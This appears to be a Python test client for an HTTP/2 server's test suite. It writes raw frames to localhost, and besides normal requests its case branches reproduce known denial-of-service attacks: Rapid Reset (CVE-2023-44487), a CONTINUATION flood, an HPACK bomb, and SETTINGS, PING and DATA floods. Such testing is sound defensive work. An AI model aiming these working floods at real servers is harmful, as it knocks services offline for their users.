"""An HTTP/2 client that writes raw frames, for tests/h2.rs: well-behaved requests and the
known attacks on HTTP/2 servers. Run with Debian's /usr/bin/python3 (python3-hpack).

    client.py PORT TLS CAFILE CASE

TLS is 1 or 0 (over TLS it offers ALPN h2 and insists on getting it). It prints one line,
what the server did: `served STATUS BYTES` (stream 1's answer), `goaway CODE` (the
server ended the connection with that error code), `refused N` (N streams reset with
REFUSED_STREAM, then served), `closed` (the server closed without a GOAWAY), or
`timeout` (nothing decisive within 15 s).
"""

import socket
import ssl
import struct
import sys
import time

import hpack

DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


class Client:
    def __init__(self, port, tls, ca):
        s = socket.create_connection(("127.0.0.1", port), timeout=15)
        if tls:
            ctx = ssl.create_default_context(cafile=ca)
            ctx.set_alpn_protocols(["h2"])
            s = ctx.wrap_socket(s, server_hostname="localhost")
            assert s.selected_alpn_protocol() == "h2", s.selected_alpn_protocol()
        self.s = s
        self.enc = hpack.Encoder()
        self.buf = b""
        self.port = port
        s.sendall(PREFACE + frame(SETTINGS, 0, 0))

    def request(self, stream, method="GET", path="/", end=True, extra=()):
        fields = [(":method", method), (":scheme", "https"), (":authority", "localhost:%d" % self.port), (":path", path)]
        block = self.enc.encode(fields + list(extra))
        return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, block)

    def frames(self, deadline):
        """Yields (kind, flags, stream, payload) as they come; None at EOF."""
        while time.monotonic() < deadline:
            while len(self.buf) >= 9:
                n = int.from_bytes(self.buf[:3], "big")
                if len(self.buf) < 9 + n:
                    break
                kind, flags = self.buf[3], self.buf[4]
                stream = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
                payload = self.buf[9 : 9 + n]
                self.buf = self.buf[9 + n :]
                if kind == SETTINGS and not flags & ACK:
                    self.send(frame(SETTINGS, ACK, 0))
                yield kind, flags, stream, payload
            try:
                chunk = self.s.recv(65536)
            except socket.timeout:
                return
            except OSError:  # a reset, or TLS cut short by the close
                chunk = b""
            if not chunk:
                yield None
                return
            self.buf += chunk

    def outcome(self, want_stream=1, window=False):
        """Reads until stream `want_stream` ends, a GOAWAY, or the close."""
        dec = hpack.Decoder()
        status, body, refused = None, 0, 0
        for f in self.frames(time.monotonic() + 15):
            if f is None:
                return "closed"
            kind, flags, stream, payload = f
            if kind == GOAWAY:
                return "goaway %d" % struct.unpack(">I", payload[4:8])[0]
            if kind == RST and struct.unpack(">I", payload)[0] == 7:
                refused += 1
            if kind == HEADERS and stream == want_stream:
                status = dict(dec.decode(payload)).get(":status")
            elif kind == HEADERS:
                dec.decode(payload)
            if kind == DATA and stream == want_stream:
                body += len(payload)
                if window and payload:
                    self.send(frame(WINDOW, 0, 0, struct.pack(">I", len(payload))))
                    self.send(frame(WINDOW, 0, stream, struct.pack(">I", len(payload))))
            if stream == want_stream and kind in (HEADERS, DATA) and flags & END_STREAM:
                return ("refused %d " % refused if refused else "") + "served %s %d" % (status, body)
        return "timeout"

    def endings(self, count):
        """Reads until `count` streams have ended (or 15 s): {stream: (status, seconds from
        now)}, in the order they ended."""
        dec, status, ended, start = hpack.Decoder(), {}, {}, time.monotonic()
        for f in self.frames(start + 15):
            if f is None:
                break
            kind, flags, stream, payload = f
            if kind == HEADERS:
                status[stream] = dict(dec.decode(payload)).get(":status")
            if kind in (HEADERS, DATA) and flags & END_STREAM:
                ended[stream] = (status.get(stream), time.monotonic() - start)
                if len(ended) == count:
                    break
        return ended

    def send(self, data):
        try:
            self.s.sendall(data)
        except OSError:  # the server closed first (TLS: SSLEOFError); what it said is read next
            pass


def main():
    port, tls, ca, case = int(sys.argv[1]), sys.argv[2] == "1", sys.argv[3], sys.argv[4]
    c = Client(port, tls, ca)
    if case == "get":
        c.send(c.request(1))
    elif case == "hold":  # one GET, then wait: what the server says when it shuts down
        c.send(c.request(1))
        first = c.outcome()
        print(first, flush=True)
        print("then " + c.outcome(want_stream=0))
        return
    elif case == "five":  # five requests at once on one connection, read until the close
        c.send(b"".join(c.request(i) for i in range(1, 11, 2)))
        served, refused, goaway = 0, 0, "no goaway"
        for f in c.frames(time.monotonic() + 15):
            if f is None:
                print("served %d refused %d %s" % (served, refused, goaway))
                return
            kind, flags, stream, payload = f
            if kind == RST and struct.unpack(">I", payload)[0] == 7:
                refused += 1
            if kind in (HEADERS, DATA) and flags & END_STREAM:
                served += 1
            if kind == GOAWAY:
                goaway = "goaway %d" % struct.unpack(">I", payload[4:8])[0]
        print("served %d refused %d timeout" % (served, refused))
        return
    elif case == "slow":  # a handler that sleeps 2.5 s
        c.send(c.request(1, path="/sleep/x?2500"))
    elif case == "slow-first":  # a slow handler's stream, then a file's, at once: the order they end
        c.send(c.request(1, path="/sleep/x?1000") + c.request(3, path="/index.html"))
        ended = c.endings(2)
        print(" ".join("%d:%s" % (s, status) for s, (status, _) in ended.items()))
        return
    elif case == "scripts":  # a script that takes 3 s, then a quick one, at once on one connection
        c.send(c.request(1, path="/cgi-bin/late") + c.request(3, path="/cgi-bin/echo"))
        ended = c.endings(2)
        gap = ended.get(1, (None, 0))[1] - ended.get(3, (None, 0))[1]
        print(" ".join("%d:%s" % (s, status) for s, (status, _) in ended.items()) + " apart %.1f s" % gap)
        return
    elif case == "big":  # a 1 MiB file, the window opened as it comes
        c.send(c.request(1, path="/big.bin"))
        print(c.outcome(window=True))
        return
    elif case == "rapid-reset":  # CVE-2023-44487: open and cancel, over and over
        c.send(b"".join(c.request(i) + frame(RST, 0, i, struct.pack(">I", 8)) for i in range(1, 2001, 2)))
        c.send(c.request(2001))
        print(c.outcome(2001))
        return
    elif case == "made-you-reset":  # 2025: make the server reset, with a frame it must refuse
        c.send(b"".join(c.request(i) + frame(WINDOW, 0, i, struct.pack(">I", 0)) for i in range(1, 2001, 2)))
        c.send(c.request(2001))
        print(c.outcome(2001))
        return
    elif case == "continuation-flood":  # 2024: a field block that never ends
        head = c.request(1)
        c.send(frame(HEADERS, 0, 1, head[9:]) + b"".join(frame(CONTINUATION, 0, 1, b"") for _ in range(10000)))
    elif case == "hpack-bomb":  # one 4 KiB field in the table, referenced 400 times
        block = c.enc.encode([(":method", "GET"), (":scheme", "https"), (":path", "/"), ("x-bomb", "b" * 4000)])
        c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
        c.outcome(1)
        bomb = c.enc.encode([(":method", "GET"), (":scheme", "https"), (":path", "/")] + [("x-bomb", "b" * 4000)] * 400)
        c.send(frame(HEADERS, END_HEADERS | END_STREAM, 3, bomb))
        print(c.outcome(3))
        return
    elif case == "settings-flood":
        c.send(frame(SETTINGS, 0, 0) * 20000)
    elif case == "ping-flood":
        c.send(frame(PING, 0, 0, b"12345678") * 20000)
    elif case == "empty-data-flood":
        c.send(c.request(1, method="POST", end=False) + frame(DATA, 0, 1) * 20000)
    elif case == "priority-flood":  # accepted and ignored: the request is still served
        c.send(b"".join(frame(PRIORITY, 0, i, struct.pack(">IB", 0, 16)) for i in range(3, 20003, 2)))
        c.send(c.request(1))
    elif case == "too-many-streams":  # 300 at once, SETTINGS_MAX_CONCURRENT_STREAMS is 100
        # Stream 1 is a file: `hybrid` would answer "/" on its pool, after the big files had
        # taken the connection's window, which this client never opens.
        c.send(c.request(1, path="/index.html") + b"".join(c.request(i, path="/big.bin") for i in range(3, 303, 2)))
    elif case == "zero-window":  # a reader that never opens its window
        c.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + c.request(1, path="/big.bin"))
    else:
        raise SystemExit("unknown case " + case)
    print(c.outcome())


if __name__ == "__main__":
    main()
